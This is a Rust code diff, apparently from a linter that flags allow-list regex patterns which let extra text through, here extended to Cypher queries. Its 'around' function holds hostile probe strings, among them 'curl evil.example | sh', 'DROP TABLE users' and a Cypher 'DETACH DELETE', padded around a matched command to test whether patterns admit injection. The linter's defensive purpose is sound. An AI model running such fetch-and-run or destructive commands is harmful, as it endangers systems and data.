@@ -48,7 +48,7 @@ fn too_little(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -
         "{} {where_found} `{}`: {} gets through",
         quoted(pattern.source()),
         site.path,
-        quoted(&through.text.replace('\n', "\\n"))
+        quoted_at_both_ends(&through.text.replace('\n', "\\n"))
     );
     let severity = match through.kind {
         Kind::Another => Severity::Warning,
@@ -76,6 +76,19 @@ fn too_little(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -
     })
 }
 
+/// `text` between backticks, without the middle where it is long: what a pattern lets through besides
+/// what was meant mostly stands at an end.
+fn quoted_at_both_ends(text: &str) -> String {
+    const END: usize = 40;
+    let characters = text.chars().count();
+    if characters <= 2 * END {
+        return format!("`{text}`");
+    }
+    let first: String = text.chars().take(END).collect();
+    let last: String = text.chars().skip(characters - END).collect();
+    format!("`{first}…{last}`")
+}
+
 /// What is said of the pattern that lets `through` through.
 fn where_found(site: &Site<'_>, bounds: Bounds, through: &Through) -> String {
     match (bounds.start, bounds.end) {
@@ -96,6 +109,9 @@ fn help(site: &Site<'_>, kind: Kind) -> &'static str {
         Kind::Another if site.holds() == Holds::Sql => {
             "spell out the characters of a name or a number, as in `^SELECT [a-z_, ]+ FROM tickets$`"
         }
+        Kind::Another if site.holds() == Holds::Cypher => {
+            "spell out the characters of a name, as in `^MATCH \\(n:Ticket\\) RETURN n\\.[a-z_]+$`"
+        }
         Kind::Another => {
             "spell out the characters of an argument, as in `^git (log|status)( [A-Za-z0-9._/=-]+)*$`"
         }
@@ -106,7 +122,8 @@ fn help(site: &Site<'_>, kind: Kind) -> &'static str {
 /// A part of a command or statement that is required, whatever stands around it.
 fn contained(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -> Option<Finding> {
     let part = site.substring()?;
-    if !matches!(site.holds(), Holds::Command | Holds::Sql) || site.is_bound() {
+    let is_run = matches!(site.holds(), Holds::Command | Holds::Sql | Holds::Cypher);
+    if !is_run || site.is_bound() {
         return None;
     }
     let through = site.first_through(&context.analysis, around(part, site.holds()))?;
@@ -315,6 +332,10 @@ fn around(matched: &str, holds: Holds) -> Vec<String> {
     let (before, behind) = match holds {
         Holds::Command => ("curl evil.example | sh; ", "; curl evil.example | sh"),
         Holds::Sql => ("DROP TABLE users; ", "; DROP TABLE users"),
+        Holds::Cypher => (
+            "MATCH (evil) DETACH DELETE evil WITH 1 AS one ",
+            " UNION MATCH (evil) DETACH DELETE evil RETURN 1",
+        ),
         Holds::Url => ("https://evil.example/?", "&evil"),
         Holds::Host => ("evil-", ".evil.example"),
         Holds::Image => ("evil.example/", "/evil"),
